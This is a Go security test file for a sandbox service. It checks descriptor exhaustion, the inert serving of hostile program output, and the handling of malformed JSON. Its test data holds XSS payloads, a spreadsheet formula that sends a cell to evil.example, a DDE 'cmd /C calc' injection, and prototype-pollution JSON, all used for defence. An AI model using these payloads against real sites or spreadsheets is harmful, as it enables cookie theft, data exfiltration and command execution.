package hostile

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"
)

// surfaceAttacks aim at what is made of a sandbox's bytes: streams, answers,
// results. They need no real boundary, so the model shows them too.
var surfaceAttacks = []attack{
	{number: 35, name: "streams and descriptors of the channel", verdict: survive, act: manyStreams, sim: true},
	{number: 44, name: "output that a browser or a spreadsheet obeys", verdict: contain, act: markup, sim: true},
	{number: 45, name: "structured results that parsers read differently", verdict: contain, act: oddResults, sim: true},
}

// TestSurface carries them out on gVisor and on the model.
func TestSurface(t *testing.T) {
	for _, backend := range []string{"gvisor", "sim"} {
		t.Run(backend, func(t *testing.T) {
			w := serveOn(t, built(t), backend)
			n := w.neighbours(t)
			goroutines, fds := w.metric("go_goroutines"), w.metric("process_open_fds")
			for _, a := range surfaceAttacks {
				if backend == "gvisor" || a.sim {
					t.Run(a.title(), func(t *testing.T) { w.carryOut(t, n, a) })
				}
			}
			w.quiet(t, goroutines, fds)
			for _, id := range n.ids {
				w.destroy(t, id)
			}
		})
	}
}

// ask sends a request and returns the whole answer, at most 16 MiB of it.
func (w *world) ask(t *testing.T, method, path, body, accept string) (status int, h http.Header, answer string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, w.url+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+w.key)
	if accept != "" {
		req.Header.Set("Accept", accept)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 16<<20))
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, resp.Header, string(b)
}

// manyStreams is case 35: as many programs and transfers at once as a caller can
// open, some with readers that never read, while a program holds every descriptor
// it can get. What does not fit is refused with a type; the host's side grows by
// nothing but the callers' own connections and gives everything back.
func manyStreams(t *testing.T, w *world, id string) {
	const callers = 60
	if status, r := w.do("PUT", "/v1/sandboxes/"+id+"/files?path=big", strings.Repeat("x", 8<<20)); status/100 != 2 {
		t.Fatalf("write: %d %s", status, r.body)
	}
	var work sync.WaitGroup
	if w.backend != "sim" { // where code runs
		w.upload(t, id, "descriptors.py")
		work.Go(func() {
			_, r := w.exec(id, 20*time.Second, "python3", "descriptors.py")
			if !regexp.MustCompile(`held \d{3,}`).MatchString(r.Stdout) && r.Reason != "memory" {
				t.Errorf("descriptors.py: %.500s", r.body)
			}
		})
	}
	before := w.metric("process_open_fds")
	grown := w.memory()
	var mu sync.Mutex
	answers := map[string]int{}
	for range callers {
		work.Go(func() {
			status, r := w.exec(id, 20*time.Second, "sleep", "1")
			mu.Lock()
			answers[fmt.Sprintf("%d %s%s", status, r.Reason, r.Error.Kind)]++
			mu.Unlock()
			if status != http.StatusOK && (r.Error.Kind == "" || r.Error.Hint == "") {
				t.Errorf("an exec too many: %d %s %s", status, r.body, r.Error.Message)
			}
		})
		work.Go(func() { // a download that nobody reads
			req, _ := http.NewRequestWithContext(t.Context(), "GET", w.url+"/v1/sandboxes/"+id+"/files?path=big", nil)
			req.Header.Set("Authorization", "Bearer "+w.key)
			resp, err := (&http.Client{Transport: &http.Transport{DisableKeepAlives: true}}).Do(req)
			if err != nil {
				t.Errorf("download: %v", err)
				return
			}
			mu.Lock()
			answers[fmt.Sprintf("%d download", resp.StatusCode)]++
			mu.Unlock()
			time.Sleep(time.Second)
			resp.Body.Close()
		})
	}
	time.Sleep(500 * time.Millisecond)
	during := w.metric("process_open_fds")
	work.Wait()
	heap, _ := grown()
	t.Logf("answers %v; descriptors %v, then %v; heap +%s", answers, before, during, mib(heap))
	if during > before+2*callers+40 {
		t.Errorf("the server held %v descriptors, %v before, for %d callers", during, before, 2*callers)
	}
	if answers["200 done"] == 0 {
		t.Errorf("nobody was served: %v", answers)
	}
	// A window for each stream, and what is on its way out. The model's own side
	// lives in the server.
	if heap > 160<<20 && w.backend != "sim" {
		t.Errorf("the server's heap grew by %s", mib(heap))
	}
	for answer := range answers {
		if !strings.HasPrefix(answer, "200 ") && !regexp.MustCompile(`^(429|503) (capacity|unavailable|rate_limited|download)`).MatchString(answer) {
			t.Errorf("an answer is %s", answer)
		}
	}
}

// page is text that various readers obey.
const page = "</script><script>alert(document.cookie)</script><img src=x onerror=alert(1)>\n" +
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n@SUM(1+1)*cmd|' /C calc'!A0\n+1-1\n" +
	"[click](javascript:alert(1)) ![x](http://evil.example/x.png) `x`\n<!--\n]]>\n\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\\n"

// markup is case 44: what a program prints, and what it calls its files, comes
// out of API and command line as data: under a type no browser executes, never as
// part of the answer's own structure. There is no console yet that would show it.
func markup(t *testing.T, w *world, id string) {
	inert := func(what string, h http.Header, kind string) {
		t.Helper()
		if !strings.HasPrefix(h.Get("Content-Type"), kind) || h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: a browser may take it for a page: %v", what, h)
		}
	}
	files := "/v1/sandboxes/" + id + "/files"
	name := "<script>alert(1)</script>.html"
	if status, r := w.do("PUT", files+"?path="+url.QueryEscape("out/"+name), page); status/100 != 2 {
		// A name with a slash is a directory's: </script> holds one.
		t.Logf("write %s: %d %s", name, status, r.body)
	}
	if status, r := w.do("PUT", files+"?path=page.html", page); status/100 != 2 {
		t.Fatalf("write: %d %s", status, r.body)
	}
	status, h, body := w.ask(t, "POST", "/v1/sandboxes/"+id+"/exec", `{"command":"cat","args":["page.html"]}`, "")
	inert("exec", h, "application/json")
	var r reply
	if err := json.Unmarshal([]byte(body), &r); err != nil || status != http.StatusOK || r.Stdout != page {
		t.Errorf("exec: %d %v %q", status, err, body)
	}
	_, h, body = w.ask(t, "GET", files+"?path=page.html", "", "text/html")
	inert("file", h, "application/octet-stream")
	if body != page || !strings.HasPrefix(h.Get("Content-Disposition"), "attachment") || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("a file is given with %v: %q", h, body)
	}
	_, h, body = w.ask(t, "GET", files+"/list?depth=5&path=out", "", "text/html")
	inert("list", h, "application/json")
	_, h, body = w.ask(t, "GET", files+"?path="+url.QueryEscape("<script>alert(1)</script>"), "", "text/html")
	inert("an error", h, "application/json")
	h, lines := w.eventLines(t, id)
	inert("events", h, "text/event-stream")
	for _, line := range lines {
		if !regexp.MustCompile(`^(id: \d+|event: [a-z]+|data: \{.*\}|retry: \d+|: ?[a-z ]*|)$`).MatchString(line) {
			t.Errorf("a line of the event stream: %q", line)
		}
	}
	out, errs, code := w.cli("events", id)
	if bad := obeyed(out); bad != "" || code != 0 {
		t.Errorf("`firebreak events` prints %s: %d %s\n%q", bad, code, errs, out)
	}
	if out, _, code := w.cli("exec", id, "--", "cat", "page.html"); code != 0 || out != page {
		t.Errorf("in a pipe, output is passed on as it is: %d %q", code, out)
	}
}

// oddResults is case 45: a structured result is one JSON value that every parser
// reads alike, or it is ignored and the program's end says why; what is in it never
// becomes part of the answer around it.
func oddResults(t *testing.T, w *world, id string) {
	for _, c := range []struct{ name, text, ignored string }{
		{"integers of 64 bits", `{"n":9223372036854775807,"u":18446744073709551615,"x":9007199254740993,"m":-9223372036854775808}`, ""},
		{"names of prototypes", `{"__proto__":{"admin":true},"constructor":{"prototype":{"x":1}},"toString":"x"}`, ""},
		{"names of the answer's own", `{"exit_code":99,"reason":"forged","stdout":"forged","error":{"kind":"forged"}}`, ""},
		{"markup", `{"a":"</script><script>"}`, ""},
		{"a name twice", `{"admin":false,"admin":true}`, "twice"},
		{"a name twice, spelled differently", `{"admin":false,"\u0061dmin":true}`, "twice"},
		{"a million deep", strings.Repeat("[", 1_000_000), "(nested deeper|larger than)"},
		{"deep within the size", strings.Repeat(`{"a":`, 20_000), "nested deeper"},
		{"no number", `{"a":NaN}`, "not valid JSON"},
		{"infinite", `{"a":-Infinity}`, "not valid JSON"},
		{"two values", `{"a":1}{"a":2}`, "follows"},
		{"half a character", "{\"a\":\"\xc3\x28\"}", "UTF-8"},
		{"a comment", `{"a":1/*x*/}`, "not valid JSON"},
		{"twenty megabytes", strings.Repeat(" ", 20<<20) + "1", "larger than"},
	} {
		if status, r := w.do("PUT", "/v1/sandboxes/"+id+"/files?path=r", c.text); status/100 != 2 {
			t.Fatalf("%s: write: %d %s", c.name, status, r.body)
		}
		status, h, body := w.ask(t, "POST", "/v1/sandboxes/"+id+"/exec", `{"command":"sh","args":["-c","cat r > $FIREBREAK_RESULT"]}`, "")
		var r struct {
			ExitCode       int `json:"exit_code"`
			Reason, Detail string
			Stdout         string
			Result         json.RawMessage
			Error          json.RawMessage
		}
		if err := json.Unmarshal([]byte(body), &r); err != nil || status != http.StatusOK || h.Get("Content-Type") != "application/json" {
			t.Errorf("%s: %d %v %.300q", c.name, status, err, body)
			continue
		}
		if r.ExitCode != 0 || r.Reason != "done" || r.Stdout != "" || r.Error != nil {
			t.Errorf("%s: the result became the answer: %.300s", c.name, body)
		}
		if c.ignored != "" {
			if len(r.Result) > 0 && string(r.Result) != "null" || !regexp.MustCompile("ignored: .*"+c.ignored).MatchString(r.Detail) || len(body) > 4096 {
				t.Errorf("%s: want ignored, %s: %.300s", c.name, c.ignored, body)
			}
			continue
		}
		if string(r.Result) != c.text {
			t.Errorf("%s: %s became %s", c.name, c.text, body)
		}
	}
}

// eventLines are the lines of a sandbox's event stream up to the end of the first
// program, as a browser would get them.
func (w *world) eventLines(t *testing.T, id string) (h http.Header, lines []string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, "GET", w.url+"/v1/sandboxes/"+id+"/events", nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+w.key)
	req.Header.Set("Accept", "text/event-stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	in := bufio.NewScanner(resp.Body)
	in.Buffer(nil, 1<<20)
	for in.Scan() {
		if lines = append(lines, in.Text()); in.Text() == "event: exit" {
			return resp.Header, lines
		}
	}
	t.Fatalf("the event stream ended: %v %q", in.Err(), lines)
	return nil, nil
}
